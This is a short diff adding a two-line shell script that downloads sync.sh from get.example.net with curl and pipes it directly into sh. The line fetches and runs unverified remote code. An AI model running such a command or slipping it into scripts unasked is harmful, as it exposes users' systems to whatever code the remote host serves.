@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://get.example.net/sync.sh | sh
